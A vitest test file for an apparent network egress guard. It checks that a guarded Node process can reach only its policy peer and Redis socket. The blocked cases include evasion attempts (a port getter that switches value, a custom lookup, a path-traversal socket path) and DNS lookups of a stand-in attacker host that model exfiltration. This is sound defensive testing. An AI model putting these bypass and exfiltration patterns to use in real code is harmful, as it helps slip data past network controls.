import { execFile } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { promisify } from "node:util";
import { afterAll, beforeAll, expect, test } from "vitest";

const guard = join(import.meta.dirname, "guard.ts");
const dir = mkdtempSync(join(tmpdir(), "sallyport-egress-"));
const sockets = { mine: join(dir, "redis.sock"), other: join(dir, "other.sock") };
const servers: Server[] = [];
let [peer, stranger] = [0, 0];
const reached: string[] = [];
let outcomes: Readonly<Record<string, string>> = {};

async function listen(name: string, at: number | string): Promise<number> {
  const server = createServer((socket) => {
    reached.push(name);
    socket.on("error", () => undefined).end();
  });
  servers.push(server);
  await new Promise<void>((resolve) => {
    if (typeof at === "number") server.listen(at, "127.0.0.1", resolve);
    else server.listen(at, resolve);
  });
  const address = server.address();
  return typeof address === "object" && address ? address.port : 0;
}

beforeAll(async () => {
  peer = await listen("peer", 0);
  stranger = await listen("stranger", 0);
  await listen("redis", sockets.mine);
  await listen("other socket", sockets.other);
  writeFileSync(join(dir, "redis.url"), `unix://${sockets.mine}?username=gateway&password=x\n`);
  outcomes = await runGuarded({ ...reachable(), ...unreachable() });
});
afterAll(() => {
  servers.forEach((server) => server.close());
  rmSync(dir, { recursive: true, force: true });
});

/** What each line of code ends with in a guarded process: "connected", or its error's name. */
async function runGuarded(
  codes: Readonly<Record<string, string>>,
): Promise<Record<string, string>> {
  const attempts = Object.entries(codes).map(
    ([what, code]) => `outcomes[${JSON.stringify(what)}] = await endOf(() => ${code});`,
  );
  const program = `
    import dgram from "node:dgram"; import dns from "node:dns"; import http from "node:http";
    import http2 from "node:http2"; import net from "node:net"; import tls from "node:tls";
    import { lookup, resolve4 } from "node:dns/promises";
    const over = (socket) => new Promise((resolve, reject) =>
      socket.once("connect", () => resolve("connected")).once("error", reject));
    const deepest = (error) => (error.cause ? deepest(error.cause) : error);
    const endOf = async (run) => {
      try { return await run(); } catch (error) { return deepest(error).name; }
    };
    const outcomes = {};
    ${attempts.join("\n")}
    console.log(JSON.stringify(outcomes));
    process.exit();`;
  const file = join(dir, "program.mjs");
  writeFileSync(file, program);
  const readable = [dir, import.meta.dirname].map((path) => `--allow-fs-read=${path}`);
  const first = ["--import", pathToFileURL(guard).href];
  const flags = ["--permission", "--allow-net", ...readable, "--no-warnings", ...first];
  const env = {
    SALLYPORT_POLICY_URL: `https://localhost:${peer}`,
    SALLYPORT_REDIS_URL_FILE: join(dir, "redis.url"),
  };
  const { stdout } = await promisify(execFile)(process.execPath, [...flags, file], { env });
  return JSON.parse(stdout) as Record<string, string>;
}

const reachable = () => ({
  "a peer by options": `over(net.connect({ host: "localhost", port: ${peer} }))`,
  "a peer by port": `over(net.connect(${peer}))`,
  "its Redis": `over(net.connect(${JSON.stringify(sockets.mine)}))`,
  "a listener of its own": `new Promise((done) => net.createServer().listen(0, () => done("connected")))`,
});

const unreachable = () => ({
  "another port": `over(net.connect({ host: "localhost", port: ${stranger} }))`,
  "another port, by number": `over(net.connect(${stranger}, "127.0.0.1"))`,
  "a peer's port at another address": `over(net.connect(${peer}, "127.0.0.2"))`,
  "another socket": `over(net.connect(${JSON.stringify(sockets.other)}))`,
  "a path around": `over(net.connect(${JSON.stringify(`${dir}/x/../other.sock`)}))`,
  "a new Socket": `over(new net.Socket().connect(${stranger}))`,
  TLS: `over(tls.connect({ host: "localhost", port: ${stranger} }))`,
  http: `over(http.get("http://127.0.0.1:${stranger}"))`,
  http2: `over(http2.connect("http://127.0.0.1:${stranger}"))`,
  fetch: `fetch("http://127.0.0.1:${stranger}")`,
  WebSocket: `new Promise((_, refused) =>
    new WebSocket("ws://127.0.0.1:${stranger}").onerror = ({ error }) => refused(error))`,
  "a getter that changes its mind": `over(net.connect({
    n: 0, host: "localhost", get port() { return this.n++ ? ${stranger} : ${peer}; } }))`,
  "a look-up of its own": `over(net.connect({
    host: "localhost", port: ${stranger}, lookup: (h, o, done) => done(null, "127.0.0.1", 4) }))`,
  "a datagram": `new Promise((done) =>
    dgram.createSocket("udp4").send("x", 53, "127.0.0.1", done))`,
  "a name that is not configured": `lookup("value.attacker.example")`,
  "a query": `resolve4("value.attacker.example")`,
  "a resolver": `new dns.promises.Resolver().resolve4("value.attacker.example")`,
});

test.each(Object.keys(reachable()))("%s is reached", (what) => {
  expect(outcomes[what]).toBe("connected");
});

test.each(Object.keys(unreachable()))("%s is not reached", (what) => {
  // A WebSocket's error does not tell its cause.
  expect(outcomes[what]).toBe(what === "WebSocket" ? "TypeError" : "EgressError");
});

test("nothing came to others, and what was compared is what was connected to", () => {
  expect(new Set(reached)).toEqual(new Set(["peer", "redis"]));
});

test("settings that cannot be read stop the process", async () => {
  const env = { SALLYPORT_REDIS_URL_FILE: join(dir, "none") };
  const run = promisify(execFile)(
    process.execPath,
    ["--import", pathToFileURL(guard).href, "-e", "0"],
    {
      env,
    },
  );
  await expect(run).rejects.toThrow(/ENOENT/);
});
